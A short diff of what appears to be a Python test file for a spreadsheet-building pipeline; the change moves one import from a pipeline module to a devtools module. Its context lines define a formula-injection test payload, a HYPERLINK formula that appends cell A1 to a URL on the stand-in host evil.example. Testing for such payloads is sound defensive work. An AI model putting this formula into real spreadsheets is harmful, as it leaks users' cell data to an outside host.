@@ -14,7 +14,7 @@ import zipfile
 import zlib
 
 from pipeline.generate import SHEET_META, build_template
-from pipeline.simulate import clean_answers
+from devtools.simulate import clean_answers
 
 # Payloads a school can type, paste or put in a file name / sheet name / property.
 FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"クリック\")"
